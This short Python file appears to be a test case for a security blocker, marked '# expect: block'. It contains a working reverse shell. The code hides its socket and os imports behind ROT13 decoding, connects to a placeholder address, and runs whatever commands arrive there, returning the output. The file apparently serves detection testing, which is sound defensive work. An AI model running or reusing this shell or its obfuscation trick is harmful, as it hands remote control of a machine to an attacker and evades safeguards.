# expect: block
import codecs
import importlib

net = importlib.import_module(codecs.decode("fbpxrg", "rot13"))
osm = importlib.import_module(codecs.decode("bf", "rot13"))
c = net.create_connection(("203.0.113.7", 443))
while True:
    cmd = c.recv(4096).decode()
    if not cmd:
        break
    c.sendall(osm.popen(cmd).read().encode())
